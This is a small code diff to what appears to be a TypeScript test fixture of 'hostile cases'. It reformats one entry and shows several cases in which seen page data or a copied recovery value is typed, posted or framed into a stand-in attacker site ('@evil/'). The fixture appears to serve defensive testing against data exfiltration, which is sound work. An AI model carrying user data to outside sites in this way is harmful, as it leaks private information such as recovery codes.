@@ -52,11 +52,7 @@ export const carriedData: readonly HostileCase[] = [
     '<form method="post" action="@evil/"><input name="q" aria-label="Search the help" /><button>Go</button></form>',
   ),
   carrying('typed into a page of another site', 'go @evil/$$ $$type Your text := %seen%'),
-  carrying(
-    'typed into a frame of another site',
-    'type Your text := %seen%',
-    '<iframe src="@evil/"></iframe>',
-  ),
+  carrying('typed into a frame of another site', 'type Your text := %seen%', '<iframe src="@evil/"></iframe>'),
   carrying(
     'copied here, pasted into a frame of another site',
     'copy Recovery && paste Your text',
